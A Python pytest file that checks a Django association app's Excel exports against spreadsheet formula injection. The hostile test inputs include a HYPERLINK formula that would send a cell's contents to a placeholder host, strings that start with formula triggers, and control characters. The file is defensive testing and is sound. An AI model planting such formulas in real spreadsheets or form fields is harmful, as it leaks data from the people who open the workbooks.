"""Whatever people typed reaches staff's workbooks as plain text: an export never fails on a
control character, and text that looks like a formula is never one (OWASP CSV injection)."""

import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.files.storage import FileSystemStorage
from openpyxl import Workbook, load_workbook

from association import spreadsheet
from association.models import ReportJob
from association.reports import services as report_services
from association.tasks import run_report_job
from events.models import RosterExport
from events.services import registrations
from talents.models import Talent
from tests.association.factories import StaffFactory
from tests.events.factories import EventFactory, mobile
from tests.talents.factories import TalentFactory
from tests.volunteers.factories import RecordFactory, TeamFactory, VolunteerFactory
from volunteers.models import Volunteer

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"点击")'
# What people typed -> what staff must read in the cell.
HOSTILE = {
    "张三\x07": "张三",
    HYPERLINK: HYPERLINK,
    "+1-2": "+1-2",
    "@SUM(1)": "@SUM(1)",
    "－1+1": "－1+1",
    "＝1+1": "＝1+1",
}


def _cells(content: bytes) -> dict:
    """Every non-empty cell of every sheet: value -> cell."""
    workbook = load_workbook(io.BytesIO(content))
    return {c.value: c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


def assert_plain_text(cells: dict, expected: str):
    assert expected in cells, f"{expected!r} not shown in the workbook"
    cell = cells[expected]
    assert cell.data_type == "s", f"{expected!r} is stored as {cell.data_type!r}, not as text"
    if expected[0] in spreadsheet.FORMULA_TRIGGERS:
        assert cell.quotePrefix, f"{expected!r} would become a formula when edited"


@pytest.fixture
def rosters_in_tmp(tmp_path):
    field = RosterExport._meta.get_field("file")
    original, field.storage = field.storage, FileSystemStorage(location=tmp_path / "rosters", base_url=None)
    yield
    field.storage = original


def test_event_roster_with_hostile_names_downloads_as_plain_text(client, rosters_in_tmp):
    event = EventFactory(title="=1+1 科普讲座", capacity=20)
    for i, name in enumerate(HOSTILE):
        registrations.register(event_id=event.pk, name=name, mobile=mobile(i), organization="@单位")
    staff = StaffFactory()
    staff.user_permissions.add(*Permission.objects.filter(
        content_type__app_label="events", codename__in=["view_event", "view_registration"]))
    client.force_login(staff)

    response = client.post("/admin/events/event/", {"action": "export_roster", "_selected_action": [event.pk]})
    export = RosterExport.objects.get()
    assert response.status_code == 302 and export.status == RosterExport.Status.DONE
    download = client.get(f"/events/exports/{export.pk}/download/")
    assert download.status_code == 200
    cells = _cells(b"".join(download.streaming_content))
    for expected in HOSTILE.values():
        assert_plain_text(cells, expected)
    assert_plain_text(cells, "@单位")
    title = next(value for value in cells if isinstance(value, str) and "科普讲座" in value)
    assert title.startswith("=1+1") and cells[title].data_type == "s"


def test_volunteer_export_with_hostile_names_downloads_as_plain_text(client):
    for name in HOSTILE:
        VolunteerFactory(name=name, employer="-濮阳市\x0b化工研究所")
    staff = StaffFactory()
    staff.groups.add(Group.objects.get(name="科学技术普及部"))
    client.force_login(staff)

    response = client.post("/admin/volunteers/volunteer/", {
        "action": "export_selected", "_selected_action": list(Volunteer.objects.values_list("pk", flat=True))})
    assert response.status_code == 200
    cells = _cells(response.content)
    for expected in HOSTILE.values():
        assert_plain_text(cells, expected)
    assert_plain_text(cells, "-濮阳市化工研究所")


def test_talent_export_with_hostile_text_is_plain_text():
    TalentFactory(name="@SUM(1)", employer=HYPERLINK, bio="简介\x1b[31m")
    staff = StaffFactory()
    staff.user_permissions.add(Permission.objects.get(codename="export_talent"))
    from talents.services import registry

    cells = _cells(registry.export_workbook(talents=Talent.objects.all(), actor=staff))
    assert_plain_text(cells, "@SUM(1)")
    assert_plain_text(cells, HYPERLINK)
    assert_plain_text(cells, "简介[31m")


def test_annual_report_with_a_hostile_team_name_succeeds_as_plain_text():
    RecordFactory(team=TeamFactory(name="=HYPERLINK(\"http://x/\",\"队\")\x07"), date=date(2024, 3, 5))
    RecordFactory(team=TeamFactory(name="+1-2<b>队</b>"), date=date(2024, 3, 6))
    job, _created = report_services.request_report(report="annual", year=2024, enqueue=False)
    run_report_job.apply(args=[job.pk])
    job.refresh_from_db()

    assert job.status == ReportJob.Status.SUCCEEDED, job.error
    cells = _cells(job.xlsx.read())
    assert_plain_text(cells, '=HYPERLINK("http://x/","队")')
    assert_plain_text(cells, "+1-2<b>队</b>")


def test_safe_cell_keeps_numbers_and_dates_and_neutralises_formulas():
    workbook = Workbook()
    sheet = workbook.active
    values = [12, 2.5, Decimal("3.50"), date(2025, 9, 20), True, None, "\t=1+1", "\r@x", "#N/A", "普通文字", "=A1"]
    sheet.append(spreadsheet.safe_row(sheet, values))
    spreadsheet.safe_cell(sheet, "=2+2", row=2, column=1)
    out = io.BytesIO()
    workbook.save(out)
    read = load_workbook(io.BytesIO(out.getvalue()))
    first = list(read.active[1])
    assert [c.value for c in first[:5]] == [12, 2.5, 3.5, datetime(2025, 9, 20), True]
    assert first[3].is_date and first[0].data_type == "n" and first[4].data_type == "b"
    for cell in [*first[6:9], first[10], read.active["A2"]]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert first[9].value == "普通文字" and not first[9].quotePrefix
    assert read.active["K1"].value == "=A1" and read.active["A2"].value == "=2+2"
